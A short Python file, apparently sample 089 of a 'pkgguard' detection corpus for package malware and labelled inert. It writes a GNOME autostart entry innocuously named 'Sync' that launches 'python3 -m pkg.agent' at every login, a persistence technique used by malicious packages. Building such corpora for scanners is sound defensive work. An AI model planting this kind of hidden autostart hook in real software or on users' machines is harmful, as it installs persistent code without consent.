# pkgguard corpus 089 (persistence), modelled on [developer-persistence]; inert, never run.
import os

path = os.path.expanduser("~/.config/autostart/pkg-sync.desktop")
os.makedirs(os.path.dirname(path), exist_ok=True)
with open(path, "w") as f:
    f.write("[Desktop Entry]\nType=Application\nName=Sync\nExec=python3 -m pkg.agent\nX-GNOME-Autostart-enabled=true\n")
